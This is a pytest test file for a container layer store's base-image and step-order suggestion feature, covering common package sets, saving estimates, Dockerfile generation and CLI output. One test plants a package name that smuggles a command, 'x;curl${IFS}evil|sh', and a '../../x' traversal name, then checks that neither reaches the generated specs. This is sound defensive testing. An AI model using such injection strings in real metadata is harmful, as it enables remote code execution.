"""Proposals: common sets, what bases would save, and steps that are made again for nothing."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from layerstore.measure.base_specs import dockerfile_of, native_spec_of
from layerstore.measure.common_sets import COMMON_MAX, common_sets
from layerstore.measure.step_order import suggest_moves
from layerstore.measure.suggest import costs_of, suggest_bases
from layerstore.store.store import Store
from tests.support.cli import Cli
from tests.support.insight import File, Layer, image_of
from tests.support.measure import noise


@pytest.fixture
def store(tmp_path):
    with Store.open(tmp_path / "store", create=True) as store:
        yield store


def by_count(items, names, others=()):
    return (len(names) - 1) * len(items)


class TestCommonSets:
    def test_a_base_for_all_and_one_over_it_for_some(self):
        sets = {"a": "xyz1", "b": "xyz2", "c": "xy3", "d": "q"}
        found = common_sets(sets, by_count)
        assert [(set(each.items), each.members, each.below) for each in found] == [
            ({"x", "y"}, ("a", "b", "c"), None),
            ({"z"}, ("a", "b"), 0),
        ]

    def test_nothing_in_common_is_nothing(self):
        assert common_sets({"a": "x", "b": "y"}, by_count) == []
        assert common_sets({}, by_count) == []
        assert common_sets({"a": "x"}, by_count) == []
        assert common_sets({"a": "xy", "b": "xy"}, lambda items, names, others: -1) == []

    def test_what_saves_nothing_lies_below_what_does(self):
        """``p`` is in one layer of all: a base for some without the others has it once more."""

        def saving(items, names, others):
            again = 10 if "p" in items and others else 0
            return (len(names) - 1) * len(items - {"p"}) - again

        sets = {"a": "pxyz", "b": "pxyz", "c": "pq", "d": "pr"}
        found = common_sets(sets, saving)
        assert [(set(each.items), each.members, each.others, each.below) for each in found] == [
            ({"p"}, ("a", "b", "c", "d"), (), None),
            ({"x", "y", "z"}, ("a", "b"), ("c", "d"), 0),
        ]

    def test_equal_sets_are_one_base(self):
        (found,) = common_sets({"a": "xy", "b": "xy"}, by_count)
        assert (set(found.items), found.members) == ({"x", "y"}, ("a", "b"))

    SETS = st.dictionaries(
        st.text("abcdefgh", min_size=1, max_size=1), st.sets(st.sampled_from("uvwxyz")), max_size=8
    )

    @given(SETS)
    def test_laws(self, sets):
        found = common_sets(sets, by_count)
        assert len(found) <= COMMON_MAX
        for number, each in enumerate(found):
            chain = [each]
            while (below := chain[-1].below) is not None:
                assert below < number
                chain.append(found[below])
            parts = [part for step in chain for part in step.items]
            assert len(parts) == len(set(parts))  # nothing lies in two bases over each other
            assert all(set(parts) <= set(sets[name]) for name in each.members)
            assert by_count(each.items, each.members) > 0
            assert not set(each.others) & set(each.members)
        if any(set(a) & set(b) for n, a in sets.items() for m, b in sets.items() if n < m):
            assert found


def package(name, version="1", needs=""):
    depends = f"Depends: {needs}\n" if needs else ""
    return (
        f"Package: {name}\nStatus: install ok installed\nArchitecture: amd64\n"
        f"Version: {version}\n{depends}\n"
    )


def with_packages(*names, version="1", size=50_000, extra=""):
    """A layer as a run of apt leaves one: files, a list for each package, the database."""
    files = {}
    needs = {"tool": "lib (>= 1) | other"}
    status = package("base-files")
    for name in names:
        own = version if name != "odd" else "7"
        files[b"usr/share/%s" % name.encode()] = noise(name + own, size)
        files[b"var/lib/dpkg/info/%s.list" % name.encode()] = b"/.\n/usr/share/%s\n" % name.encode()
        status += package(name, own, needs.get(name, ""))
    files[b"var/lib/dpkg/status"] = (status + extra).encode()
    return Layer(files, step="RUN apt-get install " + " ".join(names))


BASE = Layer({b"var/lib/dpkg/status": package("base-files").encode(), b"bin/sh": b"sh"})


def test_a_base_is_proposed_and_its_saving_is_what_it_saves(store):
    base = image_of(store, "base", BASE)
    images = {
        name: image_of(store, name, BASE, with_packages("lib", "tool", name))
        for name in ("one", "two", "three")
    }
    assert suggest_bases(store, {"base": base}) == []
    (group,) = suggest_bases(store, images)
    (proposed,) = group.bases
    assert (group.base, proposed.below) == ("base:latest", "base:latest")
    assert proposed.packages == ("tool",)  # which brings lib
    assert proposed.package_count == 2
    database = max(
        len(with_packages("lib", "tool", name).files[b"var/lib/dpkg/status"]) for name in images
    )
    assert proposed.saved.layers == 2 * 100_000 - database
    assert proposed.saved.stored < 10_000  # equal content is here once already
    # The same images made over the base, by hand.
    common = with_packages("lib", "tool")
    after = [
        image_of(
            store,
            f"{name}-after",
            BASE,
            common,
            Layer(
                {
                    path: content
                    for path, content in with_packages("lib", "tool", name).files.items()
                    if name.encode() in path or path.endswith(b"status")
                }
            ),
        )
        for name in images
    ]
    measured = group.now.minus(costs_of(store, after))
    lists = sum(len(content) for path, content in common.files.items() if b"/info/" in path)
    assert abs(measured.layers - proposed.saved.layers) <= 2 * lists + database
    assert group.predicted == group.now.minus(proposed.saved)


def test_specs_are_whole_where_what_images_have_in_common_has_no_name(store):
    images = {
        name: image_of(store, name, BASE, with_packages("lib", name)) for name in ("one", "two")
    }
    (group,) = suggest_bases(store, images)
    assert (group.base, group.bases[0].below) == ("", "")
    assert dockerfile_of(group.bases[0]).startswith("FROM base\n")
    assert native_spec_of(group.bases[0]).startswith('base = "base"\n')
    shown = Cli(store.root).ok("suggest", "one", "two").out
    assert "FROM base\n" in shown
    assert "'base' stands for what they are made from" in shown


def test_other_versions_are_no_common_packages(store):
    images = {
        "one": image_of(store, "one", BASE, with_packages("lib", version="1")),
        "two": image_of(store, "two", BASE, with_packages("lib", version="2")),
    }
    (group,) = suggest_bases(store, images)
    assert (group.bases, group.apart) == ((), 1)


def test_images_that_begin_otherwise_are_no_group(store):
    other = Layer({b"other": b"x"})
    images = {
        "one": image_of(store, "one", BASE, with_packages("lib")),
        "two": image_of(store, "two", other, with_packages("lib")),
    }
    assert suggest_bases(store, images) == []


def test_names_of_strangers_end_in_no_dockerfile(store):
    evil = package("x;curl${IFS}evil|sh", "1") + package("../../x", "1")
    images = {
        name: image_of(store, name, BASE, with_packages("lib", name, extra=evil))
        for name in ("one", "two")
    }
    (group,) = suggest_bases(store, images)
    for base in group.bases:
        assert "evil" not in dockerfile_of(base) + native_spec_of(base)
        assert base.packages == ("lib",)


def test_a_step_over_one_that_changes_is_told(store):
    def release(number, *, again):
        packages = {b"usr/lib/x": File(noise("x", 50_000), mtime_ns=number if again else 0)}
        return image_of(
            store,
            f"app:{number}",
            Layer({b"bin/sh": b"sh"}, step="base"),
            Layer({b"srv/app": b"%d" % number}, step="COPY . /srv"),
            Layer(packages, step="RUN install"),
        )

    again = [release(number, again=True) for number in range(1, 4)]
    (move,) = suggest_moves(store, "app", again)
    assert (move.step.text, move.below.text) == ("RUN install", "COPY . /srv")
    assert (move.times, move.releases, move.size) == (2, 2, 100_000)
    same = [release(number, again=False) for number in range(4, 6)]
    assert suggest_moves(store, "app", same) == []  # a layer that is the same costs nothing
    assert suggest_moves(store, "app", again[:1]) == []


class TestCommand:
    @pytest.fixture
    def cli(self, store):
        image_of(store, "base", BASE)
        for name in ("one", "two"):
            image_of(store, name, BASE, with_packages("lib", "tool", name))
        return Cli(store.root)

    def test_tables_and_specs(self, cli):
        result = cli.ok("suggest", "one", "two")
        assert "FROM base:latest" in result.out
        assert "tool" in result.out
        assert "no step is known" in result.out
        assert 'base = "base:latest"' in cli.ok("suggest", "--all", "--native").out

    def test_json(self, cli):
        found = cli.ok("suggest", "one", "two", "--json").json()
        (group,) = found["groups"]
        assert group["bases"][0]["packages"] == ["tool"]
        assert group["predicted"]["layers"] < group["now"]["layers"]
        assert group["measured"] is None

    def test_a_folder_stands_for_the_specs_in_its_folders(self, cli, tmp_path):
        for name in ("web", "api"):
            spec = tmp_path / "specs" / name
            spec.mkdir(parents=True)
            (spec / "own").write_text(name)
            (spec / "Dockerfile").write_text("FROM base\nCOPY own /\n")
        (tmp_path / "specs" / "docs").mkdir()
        found = cli.ok("suggest", "--quiet", "--json", tmp_path / "specs").json()
        (group,) = found["groups"]
        assert group["images"] == [str(tmp_path / "specs" / name) for name in ("api", "web")]
        assert "no Dockerfile" in cli.fails(2, "suggest", tmp_path / "specs" / "docs")

    def test_nothing_to_gain_is_said(self, cli):
        assert "no two of the images" in cli.ok("suggest", "one").out
        assert "nothing is to be gained" in cli.ok("suggest", "one", "base").out

    def test_what_makes_no_sense_is_refused(self, cli):
        cli.fails(2, "suggest")
        cli.fails(2, "suggest", "one", "--all")
        cli.fails(2, "suggest", "one", "two", "--prove")
        cli.fails(3, "suggest", "one", "nowhere")
